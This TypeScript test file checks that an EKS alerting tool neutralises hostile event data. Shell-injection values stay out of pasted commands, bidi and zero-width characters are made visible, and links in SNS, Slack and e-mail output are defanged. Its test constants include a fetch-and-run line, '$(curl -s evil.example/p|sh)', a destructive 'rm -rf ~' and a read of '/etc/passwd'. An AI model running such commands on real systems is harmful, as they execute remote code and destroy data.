// Issue 16.1–16.3: what a caller can put into a field reaches no shell, hides nothing and links
// nowhere. Commands: every value that reaches one fits its grammar or is a placeholder, and
// every hostile byte sits inside single quotes (exact lines asserted for the case).
// Hidden characters: shown as <U+XXXX> in every target. Links: defanged in event text, live
// only for the tool's references; the SNS JSON still parses back to the alert.
import { describe, expect, it } from "vitest";
import { formatReport } from "../../cli/report-text.ts";
import { buildSlackPayload } from "../../shared/sinks/slack.ts";
import { buildSnsPublish } from "../../shared/sinks/sns.ts";
import type { Alert, RuleId } from "../../shared/types.ts";
import { SEED_RULES, TOPIC, runFile, seeds } from "./harness.ts";
import { mrkdwnTexts, plainTexts, setPath, stringLeaves } from "./hostile-text.ts";

const open = (alert: Alert) => ({ alert, kind: "open" as const, previouslyReported: 0 });

async function alertsWith(rule: RuleId, path: string[], value: string): Promise<Alert[]> {
  const seed = seeds()[rule];
  setPath(seed.record, path, value);
  return (await runFile(JSON.stringify(seed.record))).alerts;
}

/** The command lines of a Markdown remediation: fenced lines, and inline code that is a command. */
function commandLines(markdown: string): string[] {
  const out: string[] = [];
  let fenced = false;
  for (const line of markdown.split("\n")) {
    if (/^\s*```/.test(line)) fenced = !fenced;
    else if (fenced) out.push(line.trim());
    else for (const m of line.matchAll(/`((?:aws|kubectl|eksctl) [^`]*)`/g)) out.push(m[1]!);
  }
  return out;
}

/** The line with every single-quoted part removed (a POSIX shell reads those literally). */
function unquoted(line: string): string {
  let out = "";
  let quoted = false;
  for (const ch of line) {
    if (ch === "'") quoted = !quoted;
    else if (!quoted) out += ch;
  }
  expect(quoted, `unbalanced quote in ${line}`).toBe(false);
  return out;
}

const SHELL = "prod $(curl -s evil.example/p|sh) `id` ; rm -rf ~ & x' \"y\" \\ > /tmp/o < /etc/passwd";

describe("16.1 commands are safe to paste", () => {
  it("the issue's case: a cluster name with a command substitution becomes <cluster-name>, with a line saying why", async () => {
    const [alert] = await alertsWith("addon-version-changed", ["detail", "requestParameters", "name"], "prod $(curl -s evil.example/p|sh)");
    const md = alert!.remediation;
    expect(md).not.toContain("--cluster-name prod");
    expect(commandLines(md)).toContain(
      "aws eks describe-addon --cluster-name <cluster-name> --addon-name vpc-cni --query 'addon.[addonVersion,status,health]' --region us-west-2",
    );
    const why = "`<cluster-name>` stands in for \"prod $(curl -s evil.example/p\\|sh)\", which is not a valid EKS cluster name: fill in the real one before running the commands.";
    expect(md.split("\n")).toContain(`- **Placeholders:** ${why}`);
    // Slack: the same command in a code block; the reason is prose, escaped and defanged.
    const slack = mrkdwnTexts(buildSlackPayload(open(alert!))).join("\n");
    expect(slack).toContain("aws eks describe-addon --cluster-name &lt;cluster-name&gt; --addon-name vpc-cni");
    expect(slack).toContain("• *Placeholders:* `&lt;cluster-name&gt;` stands in for \"prod $(curl -s evil.example/p|sh)\", which is not a valid EKS cluster name");
    expect(slack).not.toMatch(/--cluster-name prod/);
    // The terminal prints the same command line, ready to copy.
    const terminal = formatReport([alert!], { color: false }).split("\n").map((l) => l.trim());
    expect(terminal).toContain(
      "aws eks describe-addon --cluster-name <cluster-name> --addon-name vpc-cni --query 'addon.[addonVersion,status,health]' --region us-west-2",
    );
  });

  it.each(SEED_RULES)("%s: shell syntax in any field never reaches a command outside single quotes", async (rule) => {
    let commands = 0;
    for (const leaf of stringLeaves(seeds()[rule].record)) {
      for (const value of [SHELL, leaf.value + SHELL]) {
        for (const alert of await alertsWith(rule, leaf.path, value)) {
          for (const line of commandLines(alert.remediation)) {
            commands++;
            const bare = unquoted(line.replace(/ \\$/, "")); // a line continuation of the tool's
            expect(bare, line).not.toMatch(/\$\(|`|;|evil|passwd|rm -rf|\\/);
            // Only the tool's own operators and placeholders use shell syntax outside quotes.
            expect(bare.replace(/ (\||&&|>) /g, " ").replace(/<[a-z-]+>/g, "").replace(/\\\n/g, ""), line).not.toMatch(/[|&<>]/);
          }
        }
      }
    }
    expect(commands).toBeGreaterThan(0);
  });
});

const HIDDEN = "adm\u202eni\u2066x\u2069\u200b\u200c\u200d\u2060\ufeff\u200e\u200f\u061c";
const SHOWN = "adm<U+202E>ni<U+2066>x<U+2069><U+200B><U+200C><U+200D><U+2060><U+FEFF><U+200E><U+200F><U+061C>";

describe("16.2 no hidden text", () => {
  it("bidi and zero-width characters in a user name are shown as <U+XXXX> in title, Markdown, Slack, SNS and the terminal", async () => {
    const [alert] = await alertsWith("aws-node-modified", ["user", "username"], HIDDEN);
    expect(alert!.facts.user).toBe(HIDDEN); // the data keeps the raw value
    expect(alert!.title).toBe(`DaemonSet kube-system/aws-node changed outside the VPC CNI add-on by ${SHOWN}`);
    expect(alert!.remediation).toContain(`- **What:** \`${SHOWN}\` ran \`patch\``);
    const raw = /[\u061c\u200b-\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]/;
    const slack = buildSlackPayload(open(alert!));
    // The tool's own zero-width space after "@" in broadcasts is the only one Slack text may carry.
    for (const t of [...mrkdwnTexts(slack), ...plainTexts(slack)]) expect(t.replace(/@\u200b/g, "@")).not.toMatch(raw);
    expect(plainTexts(slack)).toContain(`DaemonSet kube-system/aws-node changed outside the VPC CNI add-on by ${SHOWN}`);
    const sns = buildSnsPublish(open(alert!), TOPIC);
    expect(sns.Message).not.toMatch(raw);
    // One message per protocol (MessageStructure json): the alert JSON for machines, text for e-mail.
    const perProtocol = JSON.parse(sns.Message!) as Record<string, string>;
    expect(perProtocol.default).toContain("adm\\u202eni\\u2066x\\u2069\\u200b");
    expect(JSON.parse(perProtocol.default!)).toEqual(alert);
    for (const body of Object.values(perProtocol)) expect(body).not.toMatch(raw);
    expect(perProtocol.email).toContain(SHOWN);
    expect(sns.Subject).toBe("[MEDIUM] aws-node-modified unknown-cluster: DaemonSet kube-system/aws-node changed outside the V...");
    const terminal = formatReport([alert!], { color: false });
    expect(terminal).not.toMatch(raw);
    expect(terminal).toContain(`  DaemonSet kube-system/aws-node changed outside the VPC CNI add-on by ${SHOWN}\n`);
  });

  it("the SNS subject shows them too", async () => {
    const [alert] = await alertsWith("aws-node-modified", ["user", "username"], HIDDEN);
    const sns = buildSnsPublish(open({ ...alert!, title: "by a\u202eb\u200bc" }), TOPIC);
    expect(sns.Subject).toBe("[MEDIUM] aws-node-modified unknown-cluster: by a<U+202E>b<U+200B>c");
  });
});

describe("16.3 no live links from events in SNS and e-mail bodies", () => {
  const UA = "see https://evil.example/p?q=1 and www.evil.example or mailto:a@evil.example";

  it("defangs them in the title and remediation, escapes them in the JSON, and keeps the tool's references live", async () => {
    const [alert] = await alertsWith("aws-node-modified", ["userAgent"], UA);
    expect(alert!.facts.userAgent).toBe(UA);
    expect(alert!.remediation).toContain("; user agent `see hxxps[:]//evil[.]example/p?q=1 and www[.]evil[.]example or mailto[:]a[@]evil[.]example`.");
    const perProtocol = JSON.parse(buildSnsPublish(open(alert!), TOPIC).Message!) as Record<string, string>;
    const message = perProtocol.default!;
    expect(JSON.parse(message)).toEqual(alert);
    // The e-mail text carries the defanged text; only the tool's own references stay links.
    const [mailBody, mailRefs] = perProtocol.email!.split("\nReferences\n");
    expect(mailBody).not.toMatch(/:\/\/|\bwww\.|mailto:/i);
    expect(mailBody).toContain("hxxps[:]//evil[.]example/p?q=1");
    // A bare address is a link in mail clients too.
    expect(mailBody).not.toContain("a@evil.example");
    expect(mailBody).toContain("mailto[:]a[@]evil[.]example");
    for (const r of alert!.references) expect(mailRefs).toContain(r);
    expect(message).toContain('"userAgent":"see https:\\u002f\\u002fevil.example/p?q=1 and www\\u002eevil.example or mailto\\u003aa@evil.example"');
    // Outside the references array, nothing an e-mail client would turn into a link.
    const [before, after] = message.split(/"references":\[[^\]]*\]/);
    for (const part of [before!, after!]) expect(part).not.toMatch(/:\/\/|\bwww\.|mailto:/i);
    expect(message).toContain(`"references":${JSON.stringify(alert!.references)}`);
    expect(alert!.references.every((r) => r.startsWith("https://"))).toBe(true);
  });
});
